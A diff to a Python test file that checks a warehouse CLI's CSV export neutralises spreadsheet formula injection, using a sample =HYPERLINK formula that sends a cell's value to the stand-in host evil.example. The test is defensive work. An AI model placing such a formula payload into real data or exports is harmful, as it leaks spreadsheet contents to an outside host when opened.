@@ -166,6 +166,9 @@ def test_export_parquet_writes_one_readable_file_per_marts_view(warehouse, tmp_p
 
 
 def test_export_csv(warehouse, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with db.writing(warehouse) as con:  # a feed can put a spreadsheet formula into any text field
+        con.execute("update core.events set partner = ? where event_key = 'partnership|markup|x'", [formula])
     result = _run("export", "--format", "csv", str(tmp_path / "csv"), "--db", str(warehouse))
     assert result.exit_code == 0, result.output
     views = _marts_views(warehouse)
@@ -174,6 +177,10 @@ def test_export_csv(warehouse, tmp_path):
         assert frame.height == db.query(warehouse, f"select count(*) as n from marts.{view}")["n"][0]
     releases = pl.read_csv(tmp_path / "csv" / "model_releases.csv")
     assert "DeepSeek-R1" in releases["model"].to_list()
+    events = pl.read_csv(tmp_path / "csv" / "events.csv")
+    assert events.filter(pl.col("event_key") == "partnership|markup|x")["partner"].to_list() == ["'" + formula]
+    assert "OpenAI" in events["org"].to_list()  # ordinary text is untouched
+    assert sorted(events["amount_usd"].drop_nulls().to_list()) == [6e9, 6.6e9]  # numbers stay numbers
 
 
 def test_export_into_a_file_path_is_an_error(warehouse, tmp_path):
